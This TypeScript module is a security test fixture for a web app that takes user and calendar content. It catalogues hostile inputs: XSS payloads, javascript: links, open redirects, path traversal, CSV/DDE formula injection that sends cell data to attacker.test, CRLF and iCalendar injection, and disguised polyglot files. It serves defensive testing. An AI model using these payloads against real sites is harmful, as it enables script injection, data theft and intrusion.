/**
 * Hostile content, to be put wherever a person or a calendar can put something: every text is to be shown as text,
 * every address and path that leads elsewhere refused, every cell shown rather than run, every file taken for what it
 * is.
 *
 * A script of the corpus that runs calls `window.attacked(id)`: a browser test sets that function and finds it not
 * called.
 */

/** The kind of content that an attack tries to be. */
export type AttackFamily =
  | 'script'
  | 'markdown'
  | 'address'
  | 'redirect'
  | 'path'
  | 'id'
  | 'formula'
  | 'bidirectional'
  | 'oversized'
  | 'prototype'
  | 'template'
  | 'header';

/** A hostile text. */
export interface Attack {
  readonly id: string;
  readonly family: AttackFamily;
  readonly text: string;
}

/** A hostile file: its declared name and type, and its content. */
export interface FileAttack {
  readonly id: string;
  readonly name: string;
  /** The content type that the browser would send. */
  readonly type: string;
  readonly bytes: Uint8Array;
}

function family(name: AttackFamily, texts: readonly string[]): Attack[] {
  return texts.map((text, index) => {
    const id = `${name}-${index + 1}`;
    return { id, family: name, text: text.replaceAll('ATTACK', `window.attacked&&window.attacked('${id}')`) };
  });
}

const script = family('script', [
  '<script>ATTACK</script>',
  '<ScRiPt>ATTACK</sCrIpT>',
  '</title><script>ATTACK</script>',
  '</script><script>ATTACK</script>',
  '</textarea><script>ATTACK</script>',
  '<!--><script>ATTACK</script>-->',
  '<![CDATA[<script>ATTACK</script>]]>',
  '<img src=x onerror="ATTACK">',
  '<img src=x onerror=ATTACK//',
  '<img/src=x/onerror=ATTACK>',
  '"><img src=x onerror="ATTACK">',
  "'><img src=x onerror='ATTACK'>",
  '" autofocus onfocus="ATTACK" x="',
  "' autofocus onfocus='ATTACK' x='",
  '<svg onload="ATTACK">',
  '<svg><script>ATTACK</script></svg>',
  '<svg><animate onbegin="ATTACK" attributeName="x"></svg>',
  '<svg><a xlink:href="javascript:ATTACK"><text y="20">press</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="ATTACK">',
  '<iframe srcdoc="<script>parent.ATTACK</script>"></iframe>',
  '<object data="data:text/html,<script>ATTACK</script>"></object>',
  '<embed src="data:text/html,<script>ATTACK</script>">',
  '<body onload="ATTACK">',
  '<details open ontoggle="ATTACK">',
  '<video><source onerror="ATTACK"></video>',
  '<audio src=x onerror="ATTACK">',
  '<input autofocus onfocus="ATTACK">',
  '<select autofocus onfocus="ATTACK">',
  '<marquee onstart="ATTACK">',
  '<style>@import "javascript:ATTACK";</style>',
  '<link rel="stylesheet" href="javascript:ATTACK">',
  '<base href="https://attacker.test/">',
  '<meta http-equiv="refresh" content="0;url=javascript:ATTACK">',
  '<form action="javascript:ATTACK"><button>Save</button></form>',
  '<button formaction="javascript:ATTACK">Save</button>',
  '<noscript><p title="</noscript><img src=x onerror=ATTACK>">',
  '<template><img src=x onerror="ATTACK"></template>',
  '<img src=x onerror=&#x61;&#x74;&#x74;acked>',
  '\u003cimg src=x onerror=ATTACK\u003e',
  '＜script＞ATTACK＜/script＞',
  '<scr\u0000ipt>ATTACK</scr\u0000ipt>',
  '<img src=x onerror="ATTACK" 恶意="图片">',
]);

const markdown = family('markdown', [
  '[press](javascript:ATTACK)',
  '[press](JaVaScRiPt:ATTACK)',
  '[press](java\nscript:ATTACK)',
  '[press](java&#x0A;script:ATTACK)',
  '[press](&#106;avascript:ATTACK)',
  '[press](<javascript:ATTACK>)',
  '[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[press](vbscript:ATTACK)',
  '![x](javascript:ATTACK)',
  '![x](x"onerror="ATTACK)',
  '![x](https://attacker.test/x.png "a" onerror="ATTACK")',
  '[press]: javascript:ATTACK\n\n[press]',
  '<javascript:ATTACK>',
  '`<img src=x onerror=ATTACK>`',
  '```html\n<script>ATTACK</script>\n```',
  '# <img src=x onerror=ATTACK>',
  '| a |\n| - |\n| <img src=x onerror=ATTACK> |',
  '- [ ] <img src=x onerror=ATTACK>',
  '[^1]\n\n[^1]: <script>ATTACK</script>',
  '**bold**<script>ATTACK</script>',
]);

/** Addresses that no link of the site may lead to. */
const address = family('address', [
  'javascript:ATTACK',
  ' javascript:ATTACK',
  'JAVASCRIPT:ATTACK',
  'java\tscript:ATTACK',
  'data:text/html,<script>ATTACK</script>',
  'vbscript:ATTACK',
  'file:///etc/passwd',
  'http://attacker.test/',
  'ftp://attacker.test/',
  'blob:https://attacker.test/1',
  'https:attacker.test',
  'https://attacker.test/"onmouseover="ATTACK',
  'https://attacker.test/<script>ATTACK</script>',
  'https://attacker.test/\\@example.org',
]);

/** Addresses that a page may not return to after signing in, and that a route rule may not lead to. */
const redirect = family('redirect', [
  '//attacker.test',
  '/\\attacker.test',
  '\\\\attacker.test',
  '/ /attacker.test',
  'https://attacker.test',
  'javascript:ATTACK',
  '/\t/attacker.test',
  '/\n/attacker.test',
  '@attacker.test',
  'camp/../../attacker.test',
]);

/** Paths of stored files that lead out of their folder. */
const path = family('path', [
  '../secret.pdf',
  'resources/public/../camps/camp-2026/list.pdf',
  'resources/public/./list.pdf',
  'resources//public/list.pdf',
  '/etc/passwd',
  'resources\\public\\list.pdf',
  'resources/public/%2e%2e/list.pdf',
  'resources/public/list.pdf\u0000.png',
  'resources/public/list.pdf?x',
  'resources/public/list.pdf#x',
  'resources/public/\u202efdp.exe',
  'resources/public/list\n.pdf',
  '.hidden',
  'resources/public/',
]);

/** Ids that are not one segment of a path, or not an id at all. */
const id = family('id', [
  '',
  '.',
  '..',
  '__proto__',
  '__id__',
  'a/b',
  'Camp',
  'camp 2026',
  'camp\n2026',
  'public/',
  '芥菜种',
  '-camp',
  'camp_2026',
  'a'.repeat(65),
  'constructor()',
]);

const formula = family('formula', [
  '=1+1',
  '=HYPERLINK("https://attacker.test/?"&A1,"press")',
  '=IMPORTXML("https://attacker.test","//a")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  'fine\n=1+1',
  '";=1+1;"',
  'a,=1+1',
]);

const bidirectional = family('bidirectional', [
  'invoice\u202Efdp.exe',
  '\u202Egnp.txt',
  '\u2066hidden\u2069',
  '\u200Bzero\u200Bwidth\u200B',
  'admin\u00ADistrator',
  '\uFEFFbyte order',
  'раураl.test',
  'Z\u0351\u036B\u0343a\u0363l\u0321g\u0321o',
  '\u0000null',
  '\uD800lone surrogate',
  '\u2028line separator\u2029',
  '👨‍👩‍👧‍👦'.repeat(40),
]);

const oversized: Attack[] = [
  { id: 'oversized-1', family: 'oversized', text: 'a'.repeat(100_000) },
  { id: 'oversized-2', family: 'oversized', text: '神'.repeat(100_000) },
  { id: 'oversized-3', family: 'oversized', text: '['.repeat(20_000) },
  { id: 'oversized-4', family: 'oversized', text: '> '.repeat(5000) },
  { id: 'oversized-5', family: 'oversized', text: '*a'.repeat(1000) },
  { id: 'oversized-6', family: 'oversized', text: '| '.repeat(10_000) },
  { id: 'oversized-7', family: 'oversized', text: '\n'.repeat(50_000) },
];

const prototype = family('prototype', [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'prototype',
  '__defineGetter__',
  'valueOf',
]);

const template = family('template', [
  '{{constructor.constructor("ATTACK")()}}',
  '${ATTACK}',
  '#{ATTACK}',
  '<%= ATTACK %>',
  "$&$`$'$1",
  '<!--app-->',
  '<!--payload-->',
  '</script><!--payload-->',
]);

const header = family('header', [
  'x\r\nSet-Cookie: a=b',
  'x\r\n\r\n<script>ATTACK</script>',
  'x\r\nBEGIN:VEVENT',
  'x;ATTENDEE=mailto:a@attacker.test',
  'x\nSUMMARY:changed',
]);

/** Every hostile text. */
export const attacks: readonly Attack[] = [
  ...script,
  ...markdown,
  ...address,
  ...redirect,
  ...path,
  ...id,
  ...formula,
  ...bidirectional,
  ...oversized,
  ...prototype,
  ...template,
  ...header,
];

/** The hostile texts of one family. */
export function attacksOf(name: AttackFamily): readonly Attack[] {
  return attacks.filter((attack) => attack.family === name);
}

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);
const gifThenScript = 'GIF89a/*\u0001\u0000*/=1;window.attacked&&window.attacked("file-gif");';

/** Files that are not what they say, or that a browser would run if it were handed them by our name. */
export const fileAttacks: readonly FileAttack[] = [
  {
    id: 'file-svg',
    name: 'logo.svg',
    type: 'image/svg+xml',
    bytes: bytes(
      '<svg xmlns="http://www.w3.org/2000/svg" onload="window.attacked(\'file-svg\')"><script>window.attacked("file-svg")</script></svg>',
    ),
  },
  {
    id: 'file-svg-as-png',
    name: 'logo.png',
    type: 'image/png',
    bytes: bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="window.attacked(\'file-svg-as-png\')"/>'),
  },
  {
    id: 'file-html',
    name: 'letter.html',
    type: 'text/html',
    bytes: bytes('<script>window.attacked("file-html")</script>'),
  },
  {
    id: 'file-html-as-pdf',
    name: 'letter.pdf',
    type: 'application/pdf',
    bytes: bytes('<script>window.attacked("file-html-as-pdf")</script>'),
  },
  {
    id: 'file-html-as-text',
    name: 'letter.txt',
    type: 'text/plain',
    bytes: bytes('<script>window.attacked("file-html-as-text")</script>'),
  },
  {
    id: 'file-xhtml',
    name: 'letter.xhtml',
    type: 'application/xhtml+xml',
    bytes: bytes('<html xmlns="http://www.w3.org/1999/xhtml"><script>window.attacked("file-xhtml")</script></html>'),
  },
  { id: 'file-script', name: 'photo.js', type: 'text/javascript', bytes: bytes('window.attacked("file-script")') },
  { id: 'file-gif', name: 'photo.gif', type: 'image/gif', bytes: bytes(gifThenScript) },
  {
    id: 'file-pdf-script',
    name: 'form.pdf',
    type: 'application/pdf',
    bytes: bytes('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
  },
  {
    id: 'file-csv-formula',
    name: 'groups.csv',
    type: 'text/csv',
    bytes: bytes('name,leader\n=HYPERLINK("https://attacker.test"),@SUM(A1)\n'),
  },
  {
    id: 'file-two-endings',
    name: 'photo.jpg.html',
    type: 'image/jpeg',
    bytes: bytes('<script>window.attacked("file-two-endings")</script>'),
  },
  { id: 'file-reversed-name', name: 'photo\u202Egpj.exe', type: 'application/octet-stream', bytes: bytes('MZ') },
  { id: 'file-path-name', name: '../../resources/public/list.pdf', type: 'application/pdf', bytes: bytes('%PDF-1.7') },
  { id: 'file-long-name', name: `${'a'.repeat(4000)}.pdf`, type: 'application/pdf', bytes: bytes('%PDF-1.7') },
  { id: 'file-empty', name: 'empty.png', type: 'image/png', bytes: new Uint8Array() },
  { id: 'file-executable', name: 'setup.exe', type: 'application/x-msdownload', bytes: bytes('MZ') },
  { id: 'file-no-type', name: 'unknown', type: '', bytes: bytes('<script>window.attacked("file-no-type")</script>') },
];
